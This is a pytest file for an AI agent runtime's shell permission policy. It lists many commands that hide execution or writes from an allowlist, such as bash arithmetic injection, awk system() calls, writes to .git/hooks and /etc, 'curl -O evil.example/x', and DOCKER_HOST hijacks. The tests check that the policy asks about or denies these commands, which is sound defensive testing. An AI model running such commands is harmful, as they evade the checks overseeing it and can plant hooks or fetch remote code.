"""Code, files and settings that a command line names where one does not look for them: texts that arithmetic evaluates,
options that are short for others, folders in which files arrive, variables that are exported later. Each was permitted
once. ``⏎`` is a line break; ``evil`` stands for whatever is forbidden."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from agentrt.core.policy import PolicyQuery
from agentrt.core.specs import Effect
from agentrt.policy import Policy

ALLOWED = [
    "ls|cat|echo|printf|read|mapfile|set|export|declare|local|let|unset|test|[|grep|seq|date|wc|true|sleep",
    "cp|mv|tee|touch|tar|unzip|rsync|env|find|sort|awk|curl|sqlite3", "make test", "kubectl get", "pip list|check",
    "nproc", "go test|build", "cargo build", "npm test", "git log|config|fetch|tag|branch|switch|checkout|worktree",
    "python -m json.tool|venv|mypy|ruff", "docker ps",
]  # fmt: skip
POLICY = Policy.from_toml(
    '[[rule]]\nid = "usual"\nlevel = "allow"\ntool = "shell"\n'
    f'args.command.shell = {{ run = {json.dumps(ALLOWED)}, write = ["**"] }}'
)
ARITHMETIC = r"""
for x in 'a[$(evil)]'; do echo $((x)); done
for x in $(cat f); do echo $((x)); done
for x; do echo $((x)); done
select x in 1 2; do echo $((x)); done
x=$'a[\x24(evil)]'; echo $((x))
x=$'a[\x24(evil)]'; echo ${y:x}
x=$'a[\x24(evil)]'; printf -v "$x" 1
x=$(cat f); [[ $x -eq 1 ]]
x=$(cat f); echo $((x+1))
x=$(cat f); echo "${a:1:$x}"
x=$(cat f); echo ${a[$x]}
x=$(cat f); a[x]=1
x=$(cat f); (( x > 1 )) && ls
x=$(cat f); let x+=1
x=$(cat f); for ((i=0;i<x;i++)); do ls; done
x=$(cat f); y=x; echo $((y))
x=1$(cat f); echo $((x))
x=(1 $(cat f)); echo $((x))
x=$(cat f); cat <<E⏎$((x))⏎E
x=$(cat f); sh -c "echo $((x))"
x=$(wc -l f); echo $((x))
x=$(cat f; wc -l); echo $((x))
x=$(wc -l 2>&1 < 'a[b]'); echo $((x))
x=$(ls | { cat f; wc -l; }); echo $((x))
wc() { cat f; }; x=$(wc); echo $((x))
read x < f; echo $((x))
read x < f; unset "a[$x]"
cat f | while read x; do echo $((x)); done
mapfile -t x < f; echo $((x[0]))
echo $(( $(cat f) ))
echo $[ `cat f` ]
f() { (( $1 )); }; f 3
echo 'a[b]'; echo $((_))
declare -i x; read x < f
x=$(cat f); b=([x]=1)
x=$(cat f); b+=([$x]=1)
x=$(cat f); declare -a b=([x]=1)
x=$(cat f); unset 'b[x]'
x=$(cat f); test -v b[x]
x=$(cat f); [ -v 'b[x]' ]; ls
x=$(cat f); read 'b[x]' < f
x=$(cat f); printf -v 'b[x]' 1
x=$(cat f); RANDOM=$x
read OPTIND < f
for RANDOM in $(cat f); do ls; done
"""
NUMBERS = r"""
for i in 1 2 3; do echo $((i * 2)); done
for i in {1..5}; do echo $((i)); done
for i in $(seq 1 5); do echo $((i + 1)); done
n=$(wc -l < f); echo $((n + 1))
n=$(ls | wc -l); [[ $n -gt 3 ]] && echo many
n=$(grep -c foo f); echo $((n * 2))
s=$(date +%s); sleep 1; e=$(date +%s); echo $((e - s))
echo $(( $(date +%s) - 5 ))
for ((i=0;i<10;i++)); do echo $i; done
i=0; while (( i < 3 )); do ls; ((i++)); done
x=$(cat f); echo ${x:0:3} ${x:-none} ${x%.*} ${#x}
a=(1 2 3); echo ${a[0]} ${a[@]}
x=$(cat f); [ "$x" = y ] && ls
x=$(cat f); [[ $x == y ]] && ls
make -j$(nproc) test
while IFS= read -r line; do echo "$line"; done < f
IFS=, read -r a b < f; echo "$a"
while read -r f; do wc -l "$f"; done < <(find . -name '*.py')
wc -l < "out/$f"
git log --author="$(git config user.name)"
export lang="$(cat f)"; ls
echo $((RANDOM % 10))
a=([0]=x [1]=y); echo ${a[1]}
i=3; a[i]=x; unset 'a[i]'; echo ${a[@]}
printf '%s\n' "$x" "a[b]"
test -n "$x" && ls
test -p "$x" && ls
"""
OPTIONS = r"""
awk 'BEGIN{system \⏎("evil")}'
awk 'BEGIN{print "a",⏎"b" > "/etc/x"}'
awk 'BEGIN{print 1 == /}/ > "/etc/x"}'
awk 'BEGIN{print 1 == /"/ > "/etc/x" "/"/ }'
awk -nf evil
awk -no 'BEGIN{}'
make test -f - <<< 'test: ; evil'
make test -sf evil.mk
make test --makefile evil.mk
make test -C /tmp
kubectl get pods --kubeconfig=evil
pip check --python ./evil
go build -gccgoflags x
sqlite3 a.db '.shell evil'
go build -o=/etc/x
kubectl get pods --server=http://evil.example
python -m mypy --python-executable evil
python -m ruff check --fix
unset a$(evil)
unset a[$(evil)]
export a$(evil)
declare a`evil`
sqlite3 a.db "select writefile('x', 'y')"
sqlite3 a.db < evil.sql
git tag --del x
git branch --forc x
git switch --disc x
git checkout --pathspec-from-file=f
git log --output="$x"
git log --output=$x
git log --author=$x
make -j$x test
make -f$(nproc) test
make -j$(nproc) -f evil.mk test
IFS=/ ls
IFS=, eval 'read x; ls'
wc -l < "$f"
wc -l < "/dev/$f"
wc -l < <(evil)
"""
FILES = r"""
sort --o=.git/hooks/x f
cp -t.git/hooks evil
cp -vt .git/hooks evil
cp --targ=.git/hooks evil
cp -r evil/.git .
cp -r evil/. .
cp evil/agentrt.toml .
cp -- evil -/../.git/hooks/x
tee -- -/../.git/hooks/x
rsync -a evil/ .git/hooks
rsync -a evil/ .
mv evil/.git ./
tar xf a
tar xf a -C out -C /etc
tar xf a --dir=/etc
tar xf a -C out --one-top-level=/etc
tar xf a -C out --transform='s,^,../.git/hooks/,'
tar tf a --index-file=.git/hooks/x
tar cf a --listed-incremental=.git/x b
tar cf a b --remove-files
env -C /etc touch x
mv /etc/x out/y
unzip x.zip
unzip x.zip -d /etc
unzip -o x.zip -d.git
find /etc -maxdepth 0 -execdir touch x \;
go test -coverprofile=.git/hooks/x
python -m json.tool a .git/x
python -m venv /etc/x
git worktree add /etc/x
git worktree add .git/x main
curl -O evil.example/x
curl --remote-name evil.example/x
"""
VARIABLES = r"""
FOO=evil; export FOO; cargo build
set -a; FOO=evil; go build
set -o allexport; CC=evil; make test
set -H
npm_config_script_shell=./evil; export npm_config_script_shell; npm test
for http_proxy in evil; do git fetch; done
DOCKER_HOST=tcp://evil; docker ps
KUBECONFIG=evil; kubectl get pods
"""
CALM = r"""
awk '{print $1 " -> " $2}' f
awk '/foo/ {print $1 " -> " $2}' f
awk 'NR > 1 && $2 > 10 {print $1, $2}' f
awk -F, '{s += $3} END {print s / NR}' f
make test -j4
kubectl get pods -n prod
sqlite3 a.db 'select * from t'
git branch --merged
git switch -c x
cp -r a b
mv a.txt b.txt
mv *.txt out
unzip -l x.zip
unzip x.zip -d out
cp a.txt out/
cp -r src/. out
tar xf a -C out
tar czf out/a.tgz src
rsync -a src/ out
env touch x
find . -exec cat {} \;
go test -run X ./...
python -m json.tool a
python -m venv .venv
git worktree add out/x main
curl -sS example.com
set -euo pipefail; ls
export lang=x; ls
export LANG; ls
"""


def lines(*groups: str) -> list[str]:
    return [line.replace("⏎", "\n") for group in groups for line in group.strip().split("\n")]


def level(command: str) -> str:
    effects = frozenset({Effect.EXECUTE, Effect.WRITE, Effect.NETWORK})
    return POLICY.decide(PolicyQuery("shell", {"command": command}, effects, workspace="/work")).level


@pytest.mark.parametrize("command", lines(ARITHMETIC, OPTIONS, FILES, VARIABLES))
def test_what_is_hidden_is_asked(command: str) -> None:
    assert level(command) == "ask"


@pytest.mark.parametrize("command", lines(NUMBERS, CALM))
def test_what_hides_nothing_is_not(command: str) -> None:
    assert level(command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        *("eval -- evil", "env - evil", "env -i - evil", "env =x evil", "unset a[$(evil)]", "export a$(evil)"),
        *("make SHELL:=evil test", "make CC::=evil", "python -m mypy --python-executable evil"),
    ],
)
def test_a_denial_of_programs_sees_them(command: str) -> None:
    denies = Policy.from_toml('[[rule]]\nid = "r"\nlevel = "deny"\ntool = "shell"\nargs.command.shell = "evil"')
    query = PolicyQuery("shell", {"command": command}, frozenset({Effect.EXECUTE}), workspace="/work")
    assert denies.decide(query).level == "deny"


@pytest.mark.parametrize("target", ["cp -t.env x", "cp --targ=.env x", "rsync x .env", "cp x/.env .", "tee -- .env"])
def test_a_denial_of_files_sees_them_too(target: str) -> None:
    denies = Policy.from_toml(
        '[[rule]]\nid = "r"\nlevel = "deny"\ntool = "shell"\nargs.command.shell = { write = ["**/.env"] }'
    )
    query = PolicyQuery("shell", {"command": target}, frozenset({Effect.EXECUTE}), workspace="/work")
    assert denies.decide(query).level == "deny"


@pytest.mark.parametrize("command", ["tar xf a", "tar xf a -C out", "unzip a.zip", "cp -r x/. .", "mv .env x"])
def test_what_arrives_may_be_what_a_denial_speaks_of(command: str) -> None:
    denies = Policy.from_toml(
        '[[rule]]\nid = "r"\nlevel = "deny"\ntool = "shell"\nargs.command.shell = { write = ["**/.env"] }'
    )
    query = PolicyQuery("shell", {"command": command}, frozenset({Effect.EXECUTE}), workspace="/work")
    decision = denies.decide(query)
    assert decision.level == ("deny" if command.startswith("mv") else "ask")
    assert decision.level == "deny" or "which file is written" in decision.reason


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize(
    "command",
    [
        "for x in 'a[$(touch evil)]'; do echo $((x)); done",
        "x=$(cat f); [[ $x -eq 1 ]]",
        "echo $(( $(cat f) ))",
        "cat f | while read x; do echo ${HOME:x}; done",
        "x=$(cat f); b=([x]=1)",
        "b=(1); x=$(cat f); unset 'b[x]'",
        "x=$(cat f); [ -v 'b[x]' ]",
        "x=$(cat f); RANDOM=$x",
        "echo 'a[$(touch evil)]' > /dev/null; echo $((_))",
    ],
)
def test_arithmetic_does_run_what_a_text_says(command: str, tmp_path: Path) -> None:
    (tmp_path / "f").write_text("a[$(touch evil)]\n")
    subprocess.run(["bash", "-c", command], cwd=tmp_path, capture_output=True, timeout=20, check=False)
    assert (tmp_path / "evil").exists()
    assert level(command) == "ask"
